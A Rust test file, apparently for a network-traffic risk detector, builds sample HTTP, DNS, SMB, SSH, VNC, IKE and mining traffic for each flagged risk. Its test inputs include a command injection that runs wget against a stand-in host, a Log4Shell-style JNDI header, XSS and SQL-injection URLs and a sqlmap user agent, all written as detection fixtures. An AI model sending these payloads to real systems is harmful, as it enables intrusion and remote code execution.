//! Checks of what single requests, answers and names show.

use super::Proof;
use super::show::{
    AGENT, PAGE, SSH, answer, asks, dns, exchange, from_outside, ftp, hex, noise, page, ping, program, reply,
    request, resolve, ssh,
};
use crate::support::traffic::Wire;

fn agent(name: &str) -> impl FnOnce(&mut Wire) {
    move |wire| exchange(wire, "/", &format!("User-Agent: {name}\r\n"), PAGE)
}

/// A file as an answer, called `kind`.
fn file(kind: &str, body: &[u8]) -> impl FnOnce(&mut Wire) {
    let answer = answer(&format!("Content-Type: {kind}\r\n"), body);
    move |wire| reply(&answer)(wire)
}

fn server(name: &str) -> impl FnOnce(&mut Wire) {
    let answer = answer(&format!("Server: {name}\r\nContent-Type: text/html\r\n"), b"");
    move |wire| reply(&answer)(wire)
}

/// A request for a host of this name.
fn host(name: &str) -> impl FnOnce(&mut Wire) {
    let request = format!("GET / HTTP/1.1\r\nHost: {name}\r\n{AGENT}\r\n");
    move |wire| wire.tcp(80, &[(true, request.as_bytes()), (false, PAGE)], false)
}

/// A login of a miner (Stratum).
fn miner(wire: &mut Wire) {
    wire.tcp(3333, &[(true, br#"{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}"#)], false);
}

/// The banners of RFB (RFC 6143 §7.1.1), and the choice of no password.
fn vnc(wire: &mut Wire) {
    let said: [(bool, &[u8]); 4] =
        [(false, b"RFB 003.008\n"), (true, b"RFB 003.008\n"), (false, &[1, 1]), (true, &[1])];
    wire.tcp(5900, &said, false);
}

/// A negotiation of SMB 1 (MS-CIFS §2.2.4.52).
fn smb1(wire: &mut Wire) {
    let message = hex(
        "0000002fff534d4272000000001801c8000000000000000000000000ffff000000000000000c00024e54204c4d20302e \
         313200",
    );
    wire.tcp(445, &[(true, &message)], false);
}

/// The first message of IKE version 1 (RFC 2409 §5), in a mode.
fn ike(mode: u8) -> impl FnOnce(&mut Wire) {
    move |wire| {
        let mut message = hex(
            "a1b2c3d4e5f6070800000000000000000110020000000000000000480000002c00000001000000010000002001010001000000 \
             180101000080010007800e01008002000280040002",
        );
        message[18] = mode;
        wire.udp(500, &[(true, &message)]);
    }
}

/// A DNS answer that long, without EDNS.
fn long_answer(length: usize) -> impl FnOnce(&mut Wire) {
    move |wire| {
        let mut message = dns("www.example.org", 0x8180);
        message[7] = 1;
        let rest = length - message.len() - 12;
        // A TXT record (RFC 1035 §3.3.14) of the name before.
        message.extend([0xc0, 0x0c, 0, 16, 0, 1, 0, 0, 0, 60]);
        message.extend((rest as u16).to_be_bytes());
        message.resize(length - 2, 0);
        wire.udp(53, &[(true, &dns("www.example.org", 0x0100)), (false, &message)]);
    }
}

/// The answer in two fragments of IP.
fn fragments(wire: &mut Wire) {
    wire.udp(53, &[(true, &dns("www.example.org", 0x0100))]);
    let message = dns("www.example.org", 0x8180);
    let mut datagram = [53_u16.to_be_bytes(), wire.client.1.to_be_bytes()].concat();
    datagram.extend((8 + message.len() as u16 + 24).to_be_bytes());
    datagram.extend([0, 0]);
    datagram.extend(&message);
    datagram.resize(48, 0);
    wire.packet(17, false, wire.server, [0x20, 0], &datagram);
    wire.packet(17, false, wire.server, [0, 6], &[0; 16]);
}

fn echo(data: Vec<u8>) -> impl FnOnce(&mut Wire) {
    move |wire| {
        let payload = [&[8, 0, 0, 0, 0, 1, 0, 1][..], &data].concat();
        wire.ip(1, true, wire.server, &payload);
        wire.ip(1, false, wire.server, &[&[0; 8][..], &data].concat());
    }
}

const LONG: &str = "abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzabcdefgh.t.example.org";

proofs! {
    url_xss []: request("/?q=%3Cscript%3Ealert(1)%3C/script%3E", ""), page;
    url_sql_injection []: request("/item?id=1%20UNION%20SELECT%20password", ""), page;
    url_command_injection []: request("/ping?host=;wget%20http://x/y", ""), page;
    http_suspicious_url []: request("/.git/config", ""), page;
    http_suspicious_header []: request("/", "X-Api: ${jndi:ldap://x/a}\r\n"), request("/", "Accept: */*\r\n");
    possible_exploit []: request("/", "X-Api: ${jndi:ldap://x/a}\r\n"), request("/", "Accept: */*\r\n");
    http_suspicious_user_agent []: agent("sqlmap/1.8"), page;
    http_crawler []: agent("Mozilla/5.0 (compatible; Googlebot/2.1)"), page;
    http_obsolete_server []: server("Apache/2.2.15"), server("nginx");
    http_suspicious_content []: file("image/png", &program()), file("application/x-msdownload", &program());
    executable_transfer []: file("application/x-msdownload", &program()), page;
    binary_data_transfer []: file("application/x-msdownload", &program()), page;
    error_code []: reply(b"HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\n\r\n"), page;
    numeric_host []: host("203.0.113.5"), host("www.example.org");
    invalid_characters []: asks("bad name!.example.org"), asks("www.example.org");
    punycode_name []: asks("xn--80ak6aa92e.com"), asks("www.example.org");
    dga_domain []: asks("xjw7q9zk2vbq4t.com"), asks("www.example.org");
    dns_suspicious_traffic []: asks(LONG), asks("www.example.org");
    dns_large_packet []: long_answer(700), long_answer(300);
    dns_fragmented []: fragments, asks("www.example.org");
    malformed_packet []: |wire: &mut Wire| wire.tcp(80, &[(true, b"GET / HTTP/1.1\r\nno colon here\r\n\r\n")], false),
        page;
    minor_issues []: ike(4), ike(2);
    clear_text_protocol []: ftp, page;
    unsafe_protocol []: ftp, page;
    remote_to_local_insecure_flow []: from_outside(ftp), ftp;
    smb_insecure_version []: smb1, page;
    ssh_obsolete_client []: ssh(b"SSH-1.5-old\r\n", SSH), ssh(SSH, SSH);
    ssh_obsolete_server []: ssh(SSH, b"SSH-1.5-old\r\n"), ssh(SSH, SSH);
    crypto_mining []: miner, page;
    web_mining []: miner, page;
    remote_access []: vnc, page;
    desktop_or_file_sharing_session []: vnc, page;
    suspicious_entropy []: echo(noise(512)), ping;
    fully_encrypted []: |wire: &mut Wire| wire.tcp(4711, &[(true, &noise(600)), (false, &noise(600))], false),
        |wire: &mut Wire| wire.tcp(4711, &[(true, &[b'x'; 600])], false);
    non_standard_port []: |wire: &mut Wire| {
        wire.tcp(8123, &[(true, b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n")], false);
    }, page;
    dns_data_exfiltration [config(r#"{ "questions": 20, "size": 100 }"#)]: |wire: &mut Wire| {
        (0..30).for_each(|n| resolve(wire, &format!("{n}.{LONG}")));
    }, |wire: &mut Wire| (0..30).for_each(|n| resolve(wire, &format!("host{n}.example.org")));
}
